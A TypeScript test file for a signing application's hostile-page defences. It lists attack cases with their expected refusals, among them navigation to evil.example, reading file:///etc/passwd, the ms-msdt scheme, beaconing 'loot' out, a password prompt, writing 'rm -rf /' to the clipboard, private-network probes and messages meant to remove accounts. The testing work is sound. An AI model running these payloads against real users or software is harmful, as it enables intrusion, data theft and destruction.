/** What a hostile page of the signing service tries on the person, the clerk, the office's network and the application. */
import type { Attack } from './attack.ts'

const click = (html: string): Pick<Attack, 'page' | 'script'> => ({
  page: html,
  script: 'document.getElementById("go").click()'
})

/** Answers "granted" or "refused"; a question that is never answered grants nothing. */
const refusedBy = (promise: string) =>
  `return Promise.race([${promise}.then(() => 'granted', () => 'refused'), new Promise((r) => setTimeout(r, 2000, 'refused'))])`

export const navigation: Attack[] = [
  { name: 'leave by a link', ...click('<a id=go href="http://{elsewhere}/">go</a>'), told: /unencrypted/ },
  { name: 'leave by script', script: 'location = "http://{elsewhere}/"', told: /unencrypted/ },
  { name: 'leave by replacing', script: 'location.replace("http://{elsewhere}/")', told: /unencrypted/ },
  { name: 'leave by changing the port', script: 'location.port = "{elsewhere}".split(":")[1]', told: /unencrypted/ },
  {
    name: 'leave for the same server under another name',
    script: 'location = "http://localhost:{port}/loot"',
    told: /unencrypted/
  },
  { name: 'leave for the same server over IPv6', script: 'location = "http://[::1]:{port}/loot"', told: /unencrypted/ },
  {
    name: 'leave for another number of this machine',
    script: 'location = "http://127.0.0.2:{port}/loot"',
    told: /unencrypted/
  },
  { name: 'leave for a public host', script: 'location = "https://evil.example/"', told: /evil\.example/ },
  { name: 'leave by encryption to elsewhere', script: 'location = "https://{elsewhere}/"', told: /127\.0\.0\.1/ },
  {
    name: 'leave with a log-in in the address',
    script: 'location = "http://ana:pw@127.0.0.1:{port}/loot"',
    told: /log in/,
    neverAsked: '/loot'
  },
  {
    name: 'leave with our host as a user name',
    script: 'location = "http://127.0.0.1:{port}@{elsewhere}/"',
    told: /log in/
  },
  {
    name: 'leave by sending a form',
    ...click('<form action="http://{elsewhere}/" method=post><button id=go>go</button></form>'),
    told: /unencrypted/
  },
  {
    name: 'leave by a form that asks',
    ...click('<form action="http://{elsewhere}/"><input name=a value=b><button id=go>go</button></form>'),
    told: /unencrypted/
  },
  {
    name: 'leave by a form sent into the top',
    ...click('<form action="https://evil.example/" target=_top method=post><button id=go>go</button></form>'),
    told: /evil\.example/
  },
  {
    name: 'leave by a refreshing tag',
    page: '<body>',
    script:
      'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=http://{elsewhere}/"; document.head.append(m)',
    told: /unencrypted/
  },
  {
    name: 'leave by a base that changes all links',
    ...click('<base href="http://{elsewhere}/"><a id=go href="x">go</a>'),
    told: /unencrypted/
  },
  {
    name: 'leave by a map in a picture',
    ...click('<img usemap="#m" src="data:,"><map name=m><area id=go href="http://{elsewhere}/" shape=default></map>'),
    told: /unencrypted/
  },
  {
    name: 'leave by a link in a drawing',
    page: '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a id=go xlink:href="http://{elsewhere}/"><text y=20>go</text></a></svg>',
    script: 'document.getElementById("go").dispatchEvent(new MouseEvent("click", { bubbles: true }))',
    told: /unencrypted/
  },
  {
    name: 'leave by the navigation interface',
    script: 'navigation.navigate("http://{elsewhere}/").committed.catch(() => {})',
    told: /unencrypted/
  },
  {
    name: 'leave later, when nobody looks',
    script: 'await new Promise((r) => setTimeout(r, 100)); location = "http://{elsewhere}/"',
    told: /unencrypted/
  },
  {
    name: 'leave from within a frame of its own',
    page: '<iframe src="/embedded?script=top.location=%22http://{elsewhere}/%22"></iframe>',
    script: 'await new Promise((r) => setTimeout(r, 200))'
  }
]

export const redirects: Attack[] = [
  ...[301, 302, 303, 307, 308].map(
    (code): Attack => ({
      name: `be sent elsewhere by the service (${code})`,
      script: `location = "/redirect/${code}?to=http://{elsewhere}/"`,
      told: /unencrypted/
    })
  ),
  {
    name: 'be sent elsewhere in two steps',
    script: 'location = "/redirect/302?to=" + encodeURIComponent("/redirect/302?to=http://{elsewhere}/")',
    told: /unencrypted/
  },
  {
    name: 'be sent to a public host',
    script: 'location = "/redirect/302?to=https://evil.example/"',
    told: /evil\.example/
  },
  { name: 'be sent to a file', script: 'location = "/redirect/302?to=file:///etc/passwd"', mayEndItself: true },
  {
    name: 'be sent to our own pages',
    script: 'location = "/redirect/302?to=app://countersign/index.html"',
    mayEndItself: true
  },
  {
    name: 'be sent elsewhere with a form’s data',
    ...click(
      '<form action="/redirect/307?to=http://{elsewhere}/" method=post><input name=pin value=1><button id=go>go</button></form>'
    ),
    told: /unencrypted/
  },
  {
    name: 'send a frame elsewhere',
    page: '<iframe id=f></iframe>',
    script: 'document.getElementById("f").src = "/redirect/302?to=http://{elsewhere}/"',
    told: /unencrypted|page of/
  },
  {
    name: 'send a picture elsewhere',
    script:
      'await new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = "/redirect/302?to=http://{elsewhere}/" })',
    told: /unencrypted/
  },
  {
    name: 'send a script elsewhere',
    script:
      'await new Promise((r) => { const s = document.createElement("script"); s.onload = s.onerror = r; s.src = "/redirect/302?to=http://{elsewhere}/"; document.head.append(s) })',
    told: /unencrypted/
  }
]

export const schemes: Attack[] = [
  { name: 'show a file of this computer', script: 'location = "file:///etc/passwd"' },
  { name: 'show our own pages', script: 'location = "app://countersign/index.html"' },
  {
    name: 'show our own pages in a frame',
    page: '<iframe id=f></iframe>',
    script:
      'document.getElementById("f").src = "app://countersign/index.html"; await new Promise((r) => setTimeout(r, 200)); try { return document.getElementById("f").contentDocument?.title ?? "" } catch { return "" }',
    answers: ''
  },
  { name: 'read our own pages', script: refusedBy('fetch("app://countersign/index.html")'), answers: 'refused' },
  { name: 'run data as a page', script: 'location = "data:text/html,<h1>bank</h1>"' },
  {
    name: 'run a blob as a page',
    script: 'location = URL.createObjectURL(new Blob(["<h1>bank</h1>"], { type: "text/html" }))',
    told: /isn’t a web page/,
    mayEndItself: true
  },
  {
    name: 'run a blob as a page in a frame',
    page: '<iframe id=f></iframe>',
    script:
      'document.getElementById("f").src = URL.createObjectURL(new Blob(["<h1>bank</h1>"], { type: "text/html" })); await new Promise((r) => setTimeout(r, 300)); return document.getElementById("f").contentDocument?.body?.textContent ?? ""',
    answers: ''
  },
  { name: 'show the browser’s own pages', script: 'location = "chrome://gpu"' },
  { name: 'show the source', script: 'location = "view-source:{here}/attack"' },
  { name: 'show the developer tools', script: 'location = "devtools://devtools/bundled/inspector.html"' },
  { name: 'start the mail program', script: 'location = "mailto:ana@example.com"' },
  { name: 'start a program of the system', script: 'location = "ms-msdt:/id%20PCWDiagnostic"' },
  {
    name: 'start a program from a frame',
    page: '<iframe id=f></iframe>',
    script: 'document.getElementById("f").src = "search-ms:query=x"'
  },
  { name: 'read a file of this computer', script: refusedBy('fetch("file:///etc/passwd")'), answers: 'refused' },
  { name: 'fetch by the old protocol', script: 'location = "ftp://{elsewhere}/"' }
]

export const windows: Attack[] = [
  {
    name: 'open a window elsewhere',
    script: 'window.open("http://{elsewhere}/")',
    told: /unencrypted/
  },
  {
    name: 'open a small window over everything',
    script: 'window.open("http://{elsewhere}/", "x", "width=9999,height=9999,left=0,top=0")',
    told: /unencrypted/
  },
  {
    name: 'open an empty window to write into',
    script: 'const w = window.open("about:blank"); w?.document.write("bank")'
  },
  {
    name: 'open a window by a link',
    ...click('<a id=go target=_blank href="http://{elsewhere}/">go</a>'),
    told: /unencrypted/
  },
  {
    name: 'open a window by a form',
    ...click(
      '<form target=_blank action="http://{elsewhere}/" method=post><input name=a value=b><button id=go>go</button></form>'
    )
  },
  {
    name: 'open a window with our pages',
    script: 'window.open("app://countersign/index.html")',
    told: /isn’t a web page/
  },
  {
    name: 'open a window with a script',
    script: 'window.open("javascript:document.write(1)")'
  },
  {
    name: 'open one window after the other',
    script:
      'for (let i = 0; i < 6; i++) { window.open("http://{elsewhere}/" + i); await new Promise((r) => setTimeout(r, 100)) }',
    told: /unencrypted/
  },
  {
    name: 'hold the screen with a message',
    script: 'alert("You are locked out"); return confirm("Pay?")',
    answers: false
  },
  { name: 'ask for a secret in a box', script: 'return prompt("Your password?")', answers: null }
]

export const network: Attack[] = [
  {
    name: 'fetch from this machine',
    script: refusedBy('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
    answers: 'refused',
    told: /unencrypted/
  },
  {
    name: 'fetch from this machine, encrypted',
    script: refusedBy('fetch("https://{elsewhere}/", { mode: "no-cors" })'),
    answers: 'refused',
    told: /private network/
  },
  {
    name: 'fetch from the service under another name',
    script: refusedBy('fetch("http://localhost:{port}/loot", { mode: "no-cors" })'),
    answers: 'refused',
    told: /unencrypted/
  },
  {
    name: 'load a picture from the router',
    script:
      'return new Promise((r) => { const i = new Image(); i.onload = () => r("granted"); i.onerror = () => r("refused"); i.src = "https://192.168.1.1/logo.png" })',
    answers: 'refused',
    told: /private network/
  },
  {
    name: 'load a picture from a name that leads into the office',
    script:
      'return new Promise((r) => { const i = new Image(); i.onload = () => r("granted"); i.onerror = () => r("refused"); i.src = "https://rebind.example/logo.png" })',
    answers: 'refused',
    told: /private network.*rebind\.example/
  },
  {
    name: 'load a picture from a printer',
    script:
      'return new Promise((r) => { const i = new Image(); i.onload = () => r("granted"); i.onerror = () => r("refused"); i.src = "https://printer.local/status.png" })',
    answers: 'refused',
    told: /private network/
  },
  {
    name: 'speak to this machine over a socket',
    script:
      'return new Promise((r) => { try { const s = new WebSocket("ws://{elsewhere}/"); s.onopen = () => r("granted"); s.onerror = () => r("refused") } catch { r("refused") } })',
    answers: 'refused'
  },
  {
    name: 'send a last word elsewhere',
    script: 'navigator.sendBeacon("http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))',
    told: /unencrypted/
  },
  { name: 'send a ping with a link', ...click('<a id=go href="#here" ping="http://{elsewhere}/">go</a>') },
  {
    name: 'listen to events from elsewhere',
    script:
      'return new Promise((r) => { const e = new EventSource("http://{elsewhere}/"); e.onopen = () => r("granted"); e.onerror = () => { e.close(); r("refused") } })',
    answers: 'refused',
    told: /unencrypted/
  },
  {
    name: 'take a style from elsewhere',
    script:
      'return new Promise((r) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => r("granted"); l.onerror = () => r("refused"); l.href = "http://{elsewhere}/"; document.head.append(l) })',
    answers: 'refused',
    told: /unencrypted/
  },
  {
    name: 'play a film from elsewhere',
    script:
      'return new Promise((r) => { const v = document.createElement("video"); v.onloadeddata = () => r("granted"); v.onerror = () => r("refused"); v.src = "http://{elsewhere}/" })',
    answers: 'refused',
    told: /unencrypted/
  },
  {
    name: 'reach elsewhere from a worker',
    script:
      'const code = `fetch("http://{elsewhere}/", { mode: "no-cors" }).then(() => postMessage("granted"), () => postMessage("refused"))`; const w = new Worker(URL.createObjectURL(new Blob([code]))); return new Promise((r) => { w.onmessage = (e) => r(e.data); w.onerror = () => r("refused") })',
    answers: 'refused'
  },
  {
    name: 'embed a page of elsewhere',
    page: '<iframe id=f></iframe>',
    script: 'document.getElementById("f").src = "http://{elsewhere}/"; await new Promise((r) => setTimeout(r, 300))',
    told: /unencrypted/
  },
  {
    name: 'embed a page of a public host',
    page: '<iframe id=f></iframe>',
    script: 'document.getElementById("f").src = "https://evil.example/"; await new Promise((r) => setTimeout(r, 300))',
    told: /evil\.example/
  },
  {
    name: 'embed an object of elsewhere',
    script:
      'const o = document.createElement("object"); o.data = "http://{elsewhere}/"; document.body.append(o); await new Promise((r) => setTimeout(r, 300))'
  },
  {
    name: 'embed a plug-in of elsewhere',
    script:
      'const e = document.createElement("embed"); e.src = "http://{elsewhere}/"; e.type = "application/pdf"; document.body.append(e); await new Promise((r) => setTimeout(r, 300))'
  },
  {
    name: 'say from a frame that the signer is done',
    page: '<iframe id=f></iframe>',
    script:
      'document.getElementById("f").src = "https://return.countersign.invalid/signed"; await new Promise((r) => setTimeout(r, 300))',
    told: /return\.countersign\.invalid/
  }
]

const permission = (name: string): Attack => ({
  name: `be granted "${name}"`,
  script: `return navigator.permissions.query({ name: ${JSON.stringify(name)} }).then((p) => p.state, () => 'denied')`,
  answers: 'denied'
})

export const permissions: Attack[] = [
  ...['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi', 'persistent-storage'].map(
    permission
  ),
  {
    name: 'watch through the camera',
    script: refusedBy('navigator.mediaDevices.getUserMedia({ video: true })'),
    answers: 'refused',
    told: /camera/
  },
  {
    name: 'listen through the microphone',
    script: refusedBy('navigator.mediaDevices.getUserMedia({ audio: true })'),
    answers: 'refused',
    told: /microphone/
  },
  {
    name: 'watch the screen',
    script: refusedBy('navigator.mediaDevices.getDisplayMedia({ video: true })'),
    answers: 'refused'
  },
  {
    name: 'learn where this computer is',
    script:
      'return new Promise((r) => navigator.geolocation.getCurrentPosition(() => r("granted"), () => r("refused")))',
    answers: 'refused',
    told: /where this computer is/
  },
  {
    name: 'notify the clerk in the office’s name',
    script: 'return Notification.requestPermission()',
    answers: 'denied'
  },
  {
    name: 'read the clipboard',
    script: refusedBy('navigator.clipboard.readText()'),
    answers: 'refused',
    told: /clipboard/
  },
  {
    name: 'put a command on the clipboard',
    script: refusedBy('navigator.clipboard.writeText("rm -rf /")'),
    answers: 'refused'
  },
  {
    name: 'fill the whole screen',
    script:
      'document.documentElement.requestFullscreen().catch(() => {}); await new Promise((r) => setTimeout(r, 500)); return document.fullscreenElement === null',
    answers: true,
    told: /whole screen/
  },
  {
    name: 'use a device on a cable',
    script: refusedBy('(navigator.usb?.requestDevice({ filters: [] }) ?? Promise.reject())'),
    answers: 'refused'
  },
  {
    name: 'use a device by radio',
    script: refusedBy('(navigator.bluetooth?.requestDevice({ acceptAllDevices: true }) ?? Promise.reject())'),
    answers: 'refused'
  },
  {
    name: 'use a serial port',
    script: refusedBy('(navigator.serial?.requestPort() ?? Promise.reject())'),
    answers: 'refused'
  },
  {
    name: 'use a keyboard-like device',
    script: refusedBy(
      '(navigator.hid?.requestDevice({ filters: [] }) ?? Promise.resolve([])).then((found) => found.length || Promise.reject())'
    ),
    answers: 'refused'
  },
  {
    name: 'play instruments',
    script: refusedBy('(navigator.requestMIDIAccess?.({ sysex: true }) ?? Promise.reject())'),
    answers: 'refused'
  }
]

export const files: Attack[] = [
  {
    name: 'save a program by a link',
    ...click('<a id=go download="run.exe" href="/file">go</a>'),
    told: /save a file/
  },
  { name: 'save a program by moving to it', script: 'location = "/file"', told: /save a file/ },
  {
    name: 'save data by a link',
    ...click('<a id=go download="run.exe" href="data:application/octet-stream,MZ">go</a>'),
    told: /save a file/
  },
  {
    name: 'save a blob by a link',
    page: '<a id=go download="run.exe">go</a>',
    script: 'const a = document.getElementById("go"); a.href = URL.createObjectURL(new Blob(["MZ"])); a.click()',
    told: /save a file/
  },
  {
    name: 'save from a frame',
    page: '<iframe id=f></iframe>',
    script: 'document.getElementById("f").src = "/file"',
    told: /save a file/
  },
  {
    name: 'open a folder of this computer',
    script: refusedBy('(window.showDirectoryPicker?.() ?? Promise.reject())'),
    answers: 'refused'
  }
]

export const application: Attack[] = [
  {
    name: 'find anything of the application',
    script:
      'return ["countersign", "require", "process", "module", "ipcRenderer", "electron", "Buffer", "global", "__dirname"].filter((name) => name in window)',
    answers: []
  },
  {
    name: 'use an element that holds other pages',
    script:
      'const w = document.createElement("webview"); w.src = "http://{elsewhere}/"; document.body.append(w); await new Promise((r) => setTimeout(r, 200)); return typeof w.loadURL',
    answers: 'undefined'
  },
  {
    name: 'reach the window it lies in',
    script: 'return [window.opener, window.parent === window, window.top === window]',
    answers: [null, true, true]
  },
  {
    name: 'speak to the application by messages',
    script:
      'window.postMessage({ channel: "accounts.remove", args: [{ id: "a" }] }, "*"); const c = new BroadcastChannel("countersign"); c.postMessage("accounts.remove"); await new Promise((r) => setTimeout(r, 200))'
  }
]
